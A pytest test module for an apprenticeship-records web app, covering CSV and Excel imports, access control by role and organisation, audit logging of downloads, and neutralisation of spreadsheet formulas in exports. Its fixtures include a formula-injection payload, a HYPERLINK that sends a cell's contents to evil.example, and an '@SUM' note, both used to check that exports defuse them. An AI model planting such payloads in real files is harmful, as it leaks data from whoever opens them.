"""Apprenticeship files on the web: the import page, and CSV and XLSX downloads of a cohort's
apprentices, the posts and an off-the-job log, by role (SQLite and PostgreSQL).

The world: the seed pathway and ``make_people``; the council's cohort SWDA 2025 with
``staff`` enrolled (named like a formula, holding post SW-101, 7.5 hours logged on
1 October 2025 with a note starting "@", approved by L&D); a vacant post SW-102; and
``far_lnd``, L&D of Far Away Care, an organisation outside the partnership.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from sqlalchemy import func, select

from pathways import clock
from pathways.models import (
    APPRENTICESHIP_MODELS,
    AuditEvent,
    Person,
    Post,
)
from tests.domain.test_exports import read_xlsx
from tests.recipes import SEED_PATHWAY, ids_of, world_fixtures, world_on
from tests.web.sessions import start_session

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
EVIL_NOTE = "@SUM(1+1)"
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = ("email,cohort,standard_code,start_date,planned_end_date,weekly_hours,"
          "otj_hours_logged,last_review_date,status,guaranteed_post\n")
GOOD_CSV = (HEADER
            + "colleague@example.org,SWDA 2025,ST0510,2025-09-01,2028-08-31,37.5,30,"
              "2026-01-10,,sw-102\n"
            + "other_team@example.org,SWDA 2026,ST0510,2026-09-01,2029-08-31,22.5,,,,\n"
            ).encode()
BAD_CSV = (HEADER
           + "nobody@example.org,SWDA 2025,ST0510,2025-09-01,2028-08-31,37.5,,,,\n"
           + "colleague@example.org,SWDA 2025,ST0510,2025-09-01,2025-08-31,lots,,,asleep,\n"
           + "staff@example.org,SWDA 2025,ST0510,2025-09-01,2028-08-31,37.5,,,,SW-101\n"
           ).encode()


def build_world(session, people: dict) -> dict:
    """Build the world of the module docstring; return ids by name."""
    from pathways.apprenticeships.posts import create_post
    from pathways.apprenticeships.records import log_hours, review_entry
    from pathways.apprenticeships.setup import enrol
    from pathways.people.accounts import create_person
    from tests.factories import make_cohort_world

    world = make_cohort_world(session, people=people)
    world["staff"].name = EVIL_NAME
    apprenticeship = enrol(session, world["cohort"], world["staff"],
                           start_date=date(2025, 9, 1), planned_end_date=date(2028, 8, 31),
                           weekly_hours=37.5, post=world["post"], actor=world["lnd"])
    review_entry(session, log_hours(session, apprenticeship, worked_on=date(2025, 10, 1),
                                    hours="7.5", activity="taught", note=EVIL_NOTE,
                                    actor=world["staff"]), "approved", actor=world["lnd"])
    create_post(session, world["staff"].organisation, reference="SW-102",
                role_id="newly-qualified-social-worker")
    far_lnd = create_person(session, email="far_lnd@example.org", name="Far L&D",
                            organisation=world["outsider"].organisation, roles=["lnd"])
    session.flush()
    return {**ids_of(people), "cohort": world["cohort"].id, "apprenticeship": apprenticeship.id,
            "far_lnd": far_lnd.id}


#: Built once per process and engine (see ``tests.recipes.world_on``).
WORLD = world_on(SEED_PATHWAY, "cohort_files", build_world)


database_url, world = world_fixtures(WORLD, SEED_PATHWAY)


@pytest.fixture
def as_person(app, client, world):
    """Sign in as someone of the world by short name: ``as_person("lnd")``."""
    return lambda key: start_session(app, client, world[key])


def counts(app) -> dict[str, int]:
    from webapp.extensions import db

    with app.app_context():
        return {model.__tablename__: db.session.scalar(select(func.count()).select_from(model))
                for model in (*APPRENTICESHIP_MODELS, AuditEvent)}


def upload(client, content: bytes, filename="cohort.csv"):
    return client.post("/cohorts/import", content_type="multipart/form-data", data={
        "apprenticeships_file": (io.BytesIO(content), filename)})


def parse_csv(answer) -> list[list[str]]:
    assert answer.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


# The import page ------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["lnd", "admin"])
def test_lnd_and_admins_see_the_upload_page_with_the_columns_and_an_example(client, as_person,
                                                                           key):
    as_person(key)
    page = client.get("/cohorts/import")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert "Import apprenticeships" in text and 'enctype="multipart/form-data"' in text
    assert 'id="import-columns"' in text and "<code>guaranteed_post</code>" in text
    assert 'id="import-example"' in text and "ann.lee@example.org" in text
    assert "Testshire Council" in text


def test_a_good_file_is_imported_then_back_to_the_cohorts(app, client, as_person, world):
    as_person("lnd")
    before = counts(app)
    answer = upload(client, GOOD_CSV)
    assert answer.status_code == 302
    assert answer.headers["Location"].endswith("/cohorts")
    after = counts(app)
    assert after["apprenticeships"] == before["apprenticeships"] + 2
    assert after["cohorts"] == before["cohorts"] + 1
    from webapp.extensions import db
    with app.app_context():
        post = db.session.scalar(select(Post).where(Post.reference == "SW-102"))
        assert post.state == "reserved" and post.apprenticeship.person.email == \
            "colleague@example.org"
        [event] = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "import"))
        assert event.actor_id == world["lnd"]
    banner = client.get(answer.headers["Location"]).get_data(as_text=True)
    assert "Imported 2 apprenticeships (1 new cohort, 1 post reserved)." in banner


def test_a_bad_file_lists_every_row_and_writes_nothing(app, client, as_person):
    as_person("lnd")
    before = counts(app)
    answer = upload(client, BAD_CSV)
    assert answer.status_code == 400
    text = answer.get_data(as_text=True)
    assert "govuk-error-summary" in text and "There is a problem" in text
    assert "row 2: email: nobody with the email address nobody@example.org works for " \
           "Testshire Council: import them as staff first, then import this file again" in text
    assert "pathways import" not in text  # the web's words: no command-line tool to run
    assert "use one of active, break in learning" in text  # the names the help text uses
    assert "row 3: planned_end_date: must be after the start date" in text
    assert "row 3: weekly_hours: &#39;lots&#39; is not a number of hours" in text
    assert "row 3: status: &#39;asleep&#39; is not a status" in text
    assert "row 4: email: staff@example.org is already enrolled in SWDA 2025" in text
    assert "row 4: guaranteed_post: post SW-101 is reserved, not vacant" in text
    assert 'href="#apprenticeships_file"' in text and "6 problem(s): nothing was imported" \
        in text
    assert counts(app) == before


@pytest.mark.parametrize("content, filename, message", [
    (b"email,cohort\n\xff\xfe,x\n", "cohort.csv", "file: is not UTF-8 text"),
    (GOOD_CSV, "cohort.pdf", "The file must be a CSV file (.csv) or an Excel workbook"),
    (b"", "", "Choose a CSV or Excel file to upload"),
    (b"colour\nred\n", "cohort.csv", "row 1: unknown column &#39;colour&#39;"),
])
def test_unreadable_uploads_are_refused_without_a_500(app, client, as_person, content,
                                                      filename, message):
    as_person("admin")
    before = counts(app)
    answer = upload(client, content, filename)
    assert answer.status_code == 400
    assert message in answer.get_data(as_text=True)
    assert counts(app) == before


def xlsx_of(csv_bytes: bytes) -> bytes:
    """The same table as an Excel workbook, dates and numbers as typed cells."""
    book = openpyxl.Workbook()
    for row in csv.reader(io.StringIO(csv_bytes.decode())):
        book.active.append([date.fromisoformat(value) if value[:2] == "20" and len(value) == 10
                            else float(value) if value.replace(".", "").isdigit() else value
                            for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_excel_workbook_is_imported_like_its_csv(app, client, as_person):
    as_person("lnd")
    answer = upload(client, xlsx_of(GOOD_CSV), "cohort.xlsx")
    assert answer.status_code == 302, answer.get_data(as_text=True)
    assert "Imported 2 apprenticeships" in client.get(answer.headers["Location"]).get_data(
        as_text=True)


def test_a_bad_workbook_names_row_and_column_and_a_broken_one_is_refused(app, client,
                                                                          as_person):
    as_person("lnd")
    before = counts(app)
    text = upload(client, xlsx_of(BAD_CSV), "cohort.xlsx").get_data(as_text=True)
    assert "row 3: weekly_hours: &#39;lots&#39; is not a number of hours" in text
    broken = upload(client, b"PK\x03\x04" + bytes(500), "cohort.xlsx")
    assert broken.status_code == 400
    assert "cannot be read as an Excel workbook (.xlsx)" in broken.get_data(as_text=True)
    assert counts(app) == before


@pytest.mark.parametrize("fmt, media_type", [("csv", CSV_TYPE), ("xlsx", XLSX_TYPE)])
def test_the_upload_page_offers_the_template_with_an_example_row(client, as_person, fmt,
                                                                 media_type):
    as_person("lnd")
    page = client.get("/cohorts/import").get_data(as_text=True)
    assert f'href="/cohorts/import/template.{fmt}"' in page
    answer = client.get(f"/cohorts/import/template.{fmt}")
    assert answer.status_code == 200 and answer.headers["Content-Type"] == media_type
    assert "attachment" in answer.headers["Content-Disposition"]
    rows = parse_csv(answer) if fmt == "csv" else [
        list(row) for row in openpyxl.load_workbook(
            io.BytesIO(answer.data), read_only=True).worksheets[0].iter_rows(values_only=True)]
    assert [str(cell) for cell in rows[0]] == HEADER.strip().split(",")
    assert "@example.org" in str(rows[1][0]) and len(rows) == 2


def test_an_upload_past_the_byte_limit_is_refused_by_the_app_not_a_500(app, client, as_person):
    as_person("lnd")
    before = counts(app)
    answer = upload(client, b"PK\x03\x04" + bytes(app.config["MAX_CONTENT_LENGTH"]),
                    "cohort.xlsx")
    assert answer.status_code == 413 and counts(app) == before


def test_an_enrolment_saved_meanwhile_is_a_clash_and_nothing_is_imported(app, client,
                                                                         as_person,
                                                                         monkeypatch):
    """The database's refusal of a row saved meanwhile (the checks did not see it) is a 409
    asking to upload again, on both engines (``COPY`` on PostgreSQL), never a 500."""
    from pathways.apprenticeships import import_checks

    monkeypatch.setattr(import_checks, "_refuse_enrolled", lambda *args: None)
    as_person("lnd")
    before = counts(app)
    answer = upload(client, (HEADER + "staff@example.org,SWDA 2025,ST0510,2025-09-01,"
                             "2028-08-31,37.5,,,,\n").encode())
    assert answer.status_code == 409
    assert "Someone else changed these cohorts while the file was imported" in \
        answer.get_data(as_text=True)
    assert counts(app) == before


def test_only_those_who_run_apprenticeships_get_the_template(client, as_person):
    as_person("staff")
    assert client.get("/cohorts/import/template.csv").status_code == 403
    as_person("lnd")
    assert client.get("/cohorts/import/template.pdf").status_code == 404


def test_the_import_goes_into_the_signed_in_persons_own_organisation(app, client, as_person):
    as_person("far_lnd")
    before = counts(app)
    answer = upload(client, GOOD_CSV)
    assert answer.status_code == 400
    assert "colleague@example.org works for another organisation, not Far Away Care" in \
        answer.get_data(as_text=True)
    assert counts(app) == before


# Who may import and download ------------------------------------------------------------


DOWNLOADS = ["/cohorts/{cohort}/apprentices.csv", "/cohorts/{cohort}/apprentices.xlsx",
             "/cohorts/posts.csv", "/apprenticeships/{apprenticeship}/otj.xlsx"]


@pytest.mark.parametrize("key", ["staff", "manager", "champion"])
@pytest.mark.parametrize("method, path", [
    ("get", "/cohorts/import"), ("post", "/cohorts/import"),
    ("get", "/cohorts/{cohort}/apprentices.csv"), ("get", "/cohorts/posts.xlsx")])
def test_people_who_do_not_run_apprenticeships_are_forbidden(client, as_person, world, key,
                                                             method, path):
    as_person(key)
    assert getattr(client, method)(path.format(**world)).status_code == 403


@pytest.mark.parametrize("path", ["/cohorts/{cohort}/apprentices.csv",
                                  "/cohorts/{cohort}/apprentices.xlsx",
                                  "/apprenticeships/{apprenticeship}/otj.csv"])
def test_another_organisations_lnd_gets_not_found(client, as_person, world, path):
    as_person("far_lnd")
    assert client.get(path.format(**world)).status_code == 404


def test_another_organisations_lnd_downloads_only_their_own_posts(client, as_person):
    as_person("far_lnd")
    rows = parse_csv(client.get("/cohorts/posts.csv"))
    assert rows[1:] == []


@pytest.mark.parametrize("key, status", [("staff", 200), ("manager", 200), ("champion", 200),
                                         ("colleague", 404), ("lnd", 200),
                                         ("partner_staff", 404)])
def test_the_otj_log_is_for_whoever_may_see_the_apprenticeship(client, as_person, world, key,
                                                                status):
    as_person(key)
    assert client.get(f"/apprenticeships/{world['apprenticeship']}/otj.csv").status_code == \
        status


@pytest.mark.parametrize("path", ["/cohorts/import", *DOWNLOADS])
def test_people_who_are_not_signed_in_are_sent_to_sign_in(client, world, path):
    answer = client.get(path.format(**world))
    assert answer.status_code == 302 and "/login" in answer.headers["Location"]


@pytest.mark.parametrize("path", ["/cohorts/{cohort}/apprentices.pdf", "/cohorts/posts.json",
                                  "/apprenticeships/{apprenticeship}/otj.txt",
                                  "/cohorts/999999/apprentices.csv",
                                  "/apprenticeships/99999999999/otj.csv"])
def test_unknown_formats_and_records_are_not_found(client, as_person, world, path):
    as_person("lnd")
    assert client.get(path.format(**world)).status_code == 404


# Downloads --------------------------------------------------------------------------------


def test_the_cohort_csv_is_an_attachment_that_parses_and_neutralises_names(client, as_person,
                                                                           world):
    as_person("lnd")
    answer = client.get(f"/cohorts/{world['cohort']}/apprentices.csv?as_of=2026-01-31")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == CSV_TYPE
    assert answer.headers["Content-Disposition"] == \
        'attachment; filename="swda-2025-apprentices-2026-01-31.csv"'
    rows = parse_csv(answer)
    record = dict(zip(rows[0], rows[1]))
    assert len(rows) == 2 and record["Email"] == "staff@example.org"
    assert record["Name"] == "'" + EVIL_NAME
    assert (record["OTJ hours logged"], record["OTJ hours required"], record["Post"]) == (
        "7.5", "187", "SW-101")
    assert record["Start date"] == "2025-09-01" and record["Status"] == "active"


def test_the_cohort_xlsx_holds_text_and_numbers_and_no_formula(client, as_person, world):
    as_person("lnd")
    answer = client.get(f"/cohorts/{world['cohort']}/apprentices.xlsx?as_of=2026-01-31")
    assert answer.status_code == 200 and answer.headers["Content-Type"] == XLSX_TYPE
    assert answer.headers["Content-Disposition"] == \
        'attachment; filename="swda-2025-apprentices-2026-01-31.xlsx"'
    book = read_xlsx(answer.data)
    assert book["name"] == "SWDA 2025" and not book["formulas"]
    record = dict(zip(book["rows"][0], book["rows"][1]))
    assert record["Name"] == "'" + EVIL_NAME
    assert record["OTJ hours logged"] == 7.5 and record["OTJ hours required"] == 187


def test_a_bad_as_of_is_refused(client, as_person, world):
    as_person("lnd")
    answer = client.get(f"/cohorts/{world['cohort']}/apprentices.csv?as_of=31/01/2026")
    assert answer.status_code == 400
    assert "as_of: &#39;31/01/2026&#39; is not a date" in answer.get_data(as_text=True)


def test_the_posts_download_lists_each_post_and_who_holds_it(client, as_person):
    as_person("lnd")
    answer = client.get("/cohorts/posts.xlsx")
    assert answer.headers["Content-Type"] == XLSX_TYPE
    assert answer.headers["Content-Disposition"] == \
        f'attachment; filename="testshire-council-posts-{clock.today()}.xlsx"'
    book = read_xlsx(answer.data)
    records = [dict(zip(book["rows"][0], row)) for row in book["rows"][1:]]
    assert [(r["Reference"], r["State"]) for r in records] == [("SW-101", "Reserved"),
                                                                ("SW-102", "Vacant")]
    assert records[0]["Apprentice name"] == "'" + EVIL_NAME
    csv_rows = parse_csv(client.get("/cohorts/posts.csv"))
    assert csv_rows[1][:5] == ["SW-101", "Newly qualified social worker (ASYE)",
                               "newly-qualified-social-worker", "", "Reserved"]


def test_the_otj_log_download_is_the_log_neutralised(client, as_person, world):
    as_person("staff")
    answer = client.get(f"/apprenticeships/{world['apprenticeship']}/otj.csv")
    assert answer.headers["Content-Type"] == CSV_TYPE
    disposition = answer.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="') and \
        disposition.endswith('-swda-2025-otj-log.csv"')
    rows = parse_csv(answer)
    assert rows[0] == ["Date", "Hours", "Activity", "State", "Note", "Query", "Recorded by"]
    assert rows[1] == ["2025-10-01", "7.5", "Taught learning", "Approved", "'" + EVIL_NOTE,
                       "", "'" + EVIL_NAME]


def exports(app) -> list[tuple]:
    from webapp.extensions import db

    with app.app_context():
        return [(e.actor_id, e.entity_type, e.entity_id, e.organisation_id, e.details)
                for e in db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")
                                            .order_by(AuditEvent.id))]


def test_every_download_is_recorded_in_the_audit_log(app, client, as_person, world):
    """Regression (issue 11, item 3): downloads of personal data left no trace."""
    from webapp.extensions import db

    with app.app_context():
        council = db.session.get(Person, world["lnd"]).organisation_id
    as_person("lnd")
    assert client.get(f"/cohorts/{world['cohort']}/apprentices.csv").status_code == 200
    assert client.get("/cohorts/posts.xlsx").status_code == 200
    as_person("staff")
    assert client.get(f"/apprenticeships/{world['apprenticeship']}/otj.csv").status_code == 200
    assert exports(app) == [
        (world["lnd"], "cohort", str(world["cohort"]), council,
         {"what": "the apprentices of SWDA 2025", "format": "csv", "rows": 1}),
        (world["lnd"], "organisation", str(council), council,
         {"what": "the posts", "format": "xlsx", "rows": 2}),
        (world["staff"], "apprenticeship", str(world["apprenticeship"]), council,
         {"what": "the off-the-job log", "format": "csv", "rows": 1})]
    as_person("far_lnd")
    assert client.get(f"/cohorts/{world['cohort']}/apprentices.csv").status_code == 404
    assert len(exports(app)) == 3  # a refused download is not one
